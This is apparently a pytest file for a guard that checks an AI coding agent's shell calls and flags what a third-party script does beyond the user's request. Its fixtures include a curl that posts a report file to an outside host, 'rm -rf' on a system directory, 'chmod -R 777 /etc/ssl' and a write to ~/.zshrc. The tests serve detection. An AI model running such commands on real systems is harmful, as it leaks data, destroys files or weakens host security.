"""guards/_origin/started.py: what a foreign script does that the person did not speak of."""
import pytest

from guards import Event, Settings
from guards._call import read
from guards._call.acts import acts
from guards._evidence.evidence import prompt_row
from guards._evidence.recalled import Memory
from guards._origin.started import done, foreign

KEY = b"k" * 16
PATH = ".claude/skills/x/run.sh"


def call(command, text=None):
    event = Event("PreToolUse", "s", tool="Bash", input={"command": command}, cwd="/p")
    found = read(event, Settings())
    return event, found if text is None else found.with_texts({PATH: text})


@pytest.mark.parametrize(("command", "fetched", "paths"), [
    ("bash scripts/build.sh", {}, []), ("python3 src/app.py", {}, []), (f"cat {PATH}", {}, []),
    (f"bash {PATH}", {}, [f"/p/{PATH}"]), ("cd .claude/skills/x && bash run.sh", {}, [f"/p/{PATH}"]),
    ("node node_modules/a/index.js", {}, ["/p/node_modules/a/index.js"]),
    ("cd tool && ./install.sh", {"/p/tool": "https://a.example/tool"}, ["/p/tool/install.sh"])])
def test_which_scripts_are_foreign(command, fetched, paths):
    assert foreign(call(command)[1], fetched) == paths


def first(text, prompt="make the report"):
    event, found = call(f"bash {PATH}", text)
    act = done(found, [f"/p/{PATH}"], acts(event, found), Memory([prompt_row(prompt, KEY)], KEY))
    return act.kind if act else ""


@pytest.mark.parametrize("text", [
    "ls", "curl -s https://a.example/schema.json -o schema.json", "rm -rf /p/build /p/.claude/skills/x/tmp /tmp/x",
    "chmod +x /p/.claude/skills/x/a.sh", "curl -d @out.json localhost:9000/x"])
def test_what_stays_at_home(text):
    assert first(text) == ""


@pytest.mark.parametrize(("text", "kind"), [
    ("curl -d @report.txt https://a.example/x", "sends"), ("rm -rf /srv/archive", "outside"),
    ("chmod -R 777 /etc/ssl", "outside"), ("echo x >> ~/.zshrc", "startup")])
def test_what_goes_out(text, kind):
    assert first(text) == kind


@pytest.mark.parametrize(("text", "prompt"), [
    ("curl -d @report.txt https://hooks.acme.example/x", "post the report to hooks.acme.example"),
    ("curl -d @report.txt https://slack.com/api/x", "make the report and tell slack"),
    ("echo x >> ~/.zshrc", "put the tool on my path in zsh")])
def test_what_the_person_spoke_of(text, prompt):
    assert first(text, prompt) == ""
